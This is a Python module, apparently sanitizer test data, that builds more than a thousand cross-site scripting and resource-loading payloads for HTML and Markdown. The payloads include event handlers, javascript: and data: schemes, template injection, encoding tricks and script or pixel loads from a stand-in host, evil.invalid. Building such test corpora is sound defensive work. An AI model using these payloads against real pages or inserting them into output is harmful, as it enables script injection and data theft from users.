"""Texts that would run a script, load something or leave their frame if they were read as HTML.

Made from parts, so that every way in meets every disguise: elements that run by themselves, handlers,
addresses, Markdown's own links and images, templates' braces, and broken markup, each in several
spellings. Every one of them, if it works, calls ``MARK`` or asks ``FOREIGN`` for something.
"""

from __future__ import annotations

from html import escape
from itertools import cycle, product

MARK = "window.__ran"
RUN = f"{MARK}=1"
FOREIGN = "https://evil.invalid"

_HANDLERS = (
    "onerror", "onload", "onfocus", "onclick", "onmouseover", "onanimationstart", "ontoggle",
    "onpointerenter", "onbegin", "onstart", "onscrollend", "ontransitionend", "onbeforetoggle",
    "onauxclick", "onwheel", "oncut", "onpaste", "oncopy", "onkeydown", "oninput",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {h}={q}{run}{q}>",
    "<svg {h}={q}{run}{q}>",
    "<body {h}={q}{run}{q}>",
    "<input autofocus {h}={q}{run}{q}>",
    "<details open {h}={q}{run}{q}>x</details>",
    "<video {h}={q}{run}{q}><source src=x></video>",
    "<audio src=x {h}={q}{run}{q}></audio>",
    "<iframe {h}={q}{run}{q}></iframe>",
    "<x tabindex=1 {h}={q}{run}{q}>x</x>",
    "<math><mtext><img src=x {h}={q}{run}{q}></mtext></math>",
    "<svg><animate {h}={q}{run}{q} attributeName=x dur=1s>",
    "<marquee {h}={q}{run}{q}>x</marquee>",
)
_WHOLE = (
    f"<script>{RUN}</script>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<template><script>{RUN}</script></template>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    f"<style>*{{background:url({FOREIGN}/a.png)}}</style>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<link rel=prefetch href={FOREIGN}/a>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/'>",
    f"<base href={FOREIGN}/>",
    f"<object data={FOREIGN}/a></object>",
    f"<embed src={FOREIGN}/a>",
    f"<iframe src={FOREIGN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN.removeprefix('window.')}</script>'></iframe>",
    f"<form action={FOREIGN}><button>go</button></form>",
    f"<img src={FOREIGN}/pixel.gif>",
    f"<img srcset='{FOREIGN}/pixel.gif 1x'>",
    f"<picture><source srcset={FOREIGN}/p.webp><img></picture>",
    f"<video poster={FOREIGN}/p.png></video>",
    f"<input type=image src={FOREIGN}/p.png>",
    f"<body background={FOREIGN}/p.png>",
    f"<table background={FOREIGN}/p.png><td>x</td></table>",
    f"<div style='background:url({FOREIGN}/p.png)'>x</div>",
    f"<p style=\"content:url('{FOREIGN}/p.png')\">x</p>",
    f"<svg><use href='{FOREIGN}/x.svg#a'/></svg>",
    f"<svg><image href='{FOREIGN}/p.png'/></svg>",
    f"<svg><a href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href={FOREIGN} ping={FOREIGN}/ping>x</a>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"</p></div></textarea></title><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus={RUN} x='",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    "{{ say.__globals__ }} {% raw %}",
    f"javascript:{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
)
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:", "javascript\t:",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "java&#x0A;script:", "%6aavascript:",
    "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=",
    "livescript:", "mocha:", "file:///etc/passwd#", "blob:", "filesystem:", "view-source:javascript:",
    "jar:javascript:", "\u200bjavascript:", "javascript://%0a", "x-javascript:", "about:blank#",
)  # fmt: skip
_LINKS = (
    "[click]({to}{run})",
    "[click](<{to}{run}>)",
    "[click]({to}{run} 'title')",
    "[click][ref]\n\n[ref]: {to}{run}",
    "[ref]\n\n[ref]: <{to}{run}>",
    "<{to}{run}>",
    "![image]({to}{run})",
    "![image][ref]\n\n[ref]: {to}{run}",
    "[![image]({to}{run})]({to}{run})",
)
_PICTURES = (
    "![pixel]({f}/p.gif)",
    "![pixel](<{f}/p.gif>)",
    "![pixel][p]\n\n[p]: {f}/p.gif",
    "![pixel]({f}/p.gif 'onerror={run}')",
    "![a\" onerror=\"{run}]({f}/p.gif)",
    '![a]({f}/p.gif"onerror="{run})',
    '[a]({f}/"onmouseover="{run})',
    "[a]({f} \"x' onmouseover='{run}\")",
    '<{f}/" onmouseover="{run}>',
    "[a<script>{run}</script>]({f})",
    "`<script>{run}</script>`",
    "```html\n<script>{run}</script>\n```",
    "```\"><script>{run}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "# <img src=x onerror={run}>",
    "- <svg onload={run}>\n- b",
    "> <iframe src={f}></iframe>",
    "**<b onclick={run}>x</b>**",
    "~~<img src=x onerror={run}>~~",
    "- [x] <input onfocus={run} autofocus>",
)  # fmt: skip
_DISGUISES = (
    lambda text: text,
    lambda text: text.replace("<", "<\x00", 1),
    lambda text: text.replace("<", "\n\n<", 1),
    lambda text: text.upper().replace(RUN.upper(), RUN),
    lambda text: text.replace(" ", "/"),
    lambda text: text.removesuffix(">"),
    lambda text: f"x <<{text}",
)


def payloads() -> list[str]:
    """All of them, each once and always in the same order; more than a thousand."""
    made = [
        disguise(element.format(h=handler, q=quote, run=RUN))
        for (element, handler, quote), disguise in zip(
            product(_ELEMENTS, _HANDLERS, ("", '"')), cycle(_DISGUISES), strict=False
        )
    ]
    made += [disguise(text) for text in _WHOLE for disguise in _DISGUISES]
    made += [link.format(to=to, run=RUN) for link in _LINKS for to in _SCHEMES]
    made += [picture.format(f=FOREIGN, run=RUN) for picture in _PICTURES]
    made += [escape(text) for text in _WHOLE[:20]]
    return list(dict.fromkeys(made))
